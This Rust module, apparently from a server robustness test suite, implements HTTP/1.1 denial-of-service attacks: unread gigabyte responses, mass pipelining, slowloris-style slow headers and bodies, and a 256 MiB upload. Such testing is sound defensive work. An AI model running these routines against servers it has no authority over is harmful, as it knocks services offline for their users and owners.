//! Attacks over HTTP/1.1.

use super::wire::{Fate, connect, fate_of, say};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const GET_LARGE: &[u8] = b"GET /bytes/1000000000 HTTP/1.1\r\nhost: a\r\n\r\n";
const SECOND: Duration = Duration::from_secs(1);

fn crowd(address: SocketAddr, count: usize, first: &[u8]) -> Vec<TcpStream> {
    let mut crowd: Vec<_> = (0..count).map(|_| connect(address)).collect();
    for socket in &mut crowd {
        say(socket, first);
    }
    crowd
}

/// What becomes of all, when nothing more is said.
fn fates(mut crowd: Vec<TcpStream>, time: Duration) -> Vec<Fate> {
    std::thread::sleep(time);
    crowd
        .iter_mut()
        .map(|socket| fate_of(socket, SECOND))
        .collect()
}

pub(crate) fn unread(address: SocketAddr) -> Vec<Fate> {
    fates(crowd(address, 200, GET_LARGE), 35 * SECOND)
}

pub(crate) fn pipelined(address: SocketAddr) -> Vec<Fate> {
    let requests = b"GET /bytes/60000 HTTP/1.1\r\nhost: a\r\n\r\n".repeat(1_500);
    fates(crowd(address, 20, &requests), 35 * SECOND)
}

pub(crate) fn slow_heads(address: SocketAddr) -> Vec<Fate> {
    dribbled(address, b"GET / HTTP/1.1\r\nx: ", 17)
}

pub(crate) fn slow_bodies(address: SocketAddr) -> Vec<Fate> {
    let head = b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n";
    dribbled(address, head, 25)
}

/// A byte a second behind `first`.
fn dribbled(address: SocketAddr, first: &[u8], seconds: u32) -> Vec<Fate> {
    let mut crowd = crowd(address, 200, first);
    for _ in 0..seconds {
        std::thread::sleep(SECOND);
        for socket in &mut crowd {
            say(socket, b"x");
        }
    }
    fates(crowd, SECOND)
}

pub(crate) fn huge_body(address: SocketAddr) -> Vec<Fate> {
    const BYTES: usize = 256 << 20;
    let mut socket = connect(address);
    let _ = socket.set_write_timeout(Some(20 * SECOND));
    say(
        &mut socket,
        format!("POST / HTTP/1.1\r\nhost: a\r\ncontent-length: {BYTES}\r\n\r\n").as_bytes(),
    );
    let piece = vec![0; 1 << 20];
    for _ in 0..BYTES / piece.len() {
        say(&mut socket, &piece);
    }
    vec![fate_of(&mut socket, SECOND)]
}
